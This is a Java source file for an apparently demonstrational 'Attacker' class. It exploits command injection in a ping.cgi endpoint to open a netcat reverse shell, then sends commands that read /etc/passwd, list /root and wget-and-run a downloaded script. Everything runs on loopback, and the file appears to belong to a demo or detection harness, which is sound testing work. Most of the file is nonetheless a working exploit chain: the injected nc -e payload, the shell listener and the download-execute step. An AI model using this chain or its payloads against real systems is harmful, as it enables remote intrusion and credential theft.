// SPDX-License-Identifier: Apache-2.0
package tagwatch.demo;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.BindException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;

/**
 * Exploits the hole of {@code ping.cgi} for a reverse shell, with a listener and a download server
 * on loopback. What the shell is told is harmless.
 */
final class Attacker implements AutoCloseable {
  private static final Duration LIMIT = Duration.ofSeconds(6);

  /** A shell that has not connected so long after the request's end never will. */
  private static final Duration AFTER_REPLY = Duration.ofMillis(300);

  private final int port;
  private final ServerSocket listener;
  private final HttpServer download;
  private final ExecutorService requests = Executors.newCachedThreadPool();
  private final byte[] commands;

  /**
   * Opens the listener.
   *
   * @param port that the shell connects to; 0 for any free one
   * @param drop file that the shell downloads the script to
   */
  Attacker(int port, Path drop) throws IOException, DemoException {
    InetAddress loopback = InetAddress.getLoopbackAddress();
    try {
      listener = new ServerSocket(port, 4, loopback);
    } catch (BindException e) {
      throw new DemoException(
          "port " + port + " for the reverse shell is taken; choose another: --listener PORT", e);
    }
    this.port = listener.getLocalPort();
    listener.setSoTimeout(50);
    download = HttpServer.create(new InetSocketAddress(loopback, 0), 4);
    byte[] script = ("echo " + Loot.SCRIPT_RAN + "\nuname -a\n").getBytes(StandardCharsets.UTF_8);
    download.createContext(
        "/update.sh",
        exchange -> {
          exchange.sendResponseHeaders(200, script.length);
          exchange.getResponseBody().write(script);
          exchange.close();
        });
    download.start();
    commands = commands(drop, download.getAddress().getPort()).getBytes(StandardCharsets.UTF_8);
  }

  private static String commands(Path drop, int downloadPort) {
    return """
    id; echo DONE-1
    cat /etc/passwd; echo DONE-2
    ls -la /root; echo DONE-3
    wget -q -O %1$s http://127.0.0.1:%2$d/update.sh && sh %1$s; echo DONE-4
    exit
    """
        .formatted(drop, downloadPort);
  }

  /** The request that exploits the hole, e.g. for a person to send it by hand. */
  String target() {
    return "/cgi-bin/ping.cgi?host="
        + URLEncoder.encode(
            "127.0.0.1;nc 127.0.0.1 " + port + " -e /bin/sh", StandardCharsets.UTF_8);
  }

  /** Attacks once; takes a few seconds at most. */
  Loot attack(int serverPort) throws IOException, InterruptedException {
    CompletableFuture<Long> replied =
        CompletableFuture.supplyAsync(() -> exploit(serverPort), requests);
    try (Socket shell = accept(replied)) {
      return shell == null ? Loot.NONE : converse(shell);
    } finally {
      // the next attack shall find the server at rest
      replied.completeOnTimeout(0L, LIMIT.toMillis(), TimeUnit.MILLISECONDS);
      replied.join();
    }
  }

  /** When the answer came, or the server closed without one because its program was killed. */
  private long exploit(int serverPort) {
    try {
      HttpRequest.get(target()).send(serverPort, LIMIT);
    } catch (IOException e) {
      // no answer is what a stopped attack looks like from here
      return System.nanoTime();
    }
    return System.nanoTime();
  }

  private Socket accept(CompletableFuture<Long> replied) throws IOException {
    long deadline = System.nanoTime() + LIMIT.toNanos();
    while (System.nanoTime() < deadline) {
      try {
        return listener.accept();
      } catch (SocketTimeoutException e) {
        Long end = replied.getNow(null);
        if (end != null && System.nanoTime() - end > AFTER_REPLY.toNanos()) {
          return null;
        }
      }
    }
    return null;
  }

  private Loot converse(Socket shell) throws IOException {
    shell.setSoTimeout((int) LIMIT.toMillis());
    ByteArrayOutputStream received = new ByteArrayOutputStream();
    boolean closed = true;
    try {
      shell.getOutputStream().write(commands);
      drain(shell.getInputStream(), received);
    } catch (SocketTimeoutException e) {
      closed = false;
    } catch (IOException e) {
      // a killed shell resets the connection: what came before it counts
      closed = true;
    }
    return new Loot(true, received.toString(StandardCharsets.UTF_8), closed);
  }

  private static void drain(InputStream in, ByteArrayOutputStream received) throws IOException {
    long deadline = System.nanoTime() + LIMIT.toNanos();
    byte[] buffer = new byte[8192];
    for (int got = in.read(buffer); got >= 0; got = in.read(buffer)) {
      received.write(buffer, 0, got);
      if (System.nanoTime() > deadline) {
        throw new SocketTimeoutException();
      }
    }
  }

  @Override
  public void close() throws IOException {
    listener.close();
    download.stop(0);
    requests.shutdownNow();
  }
}
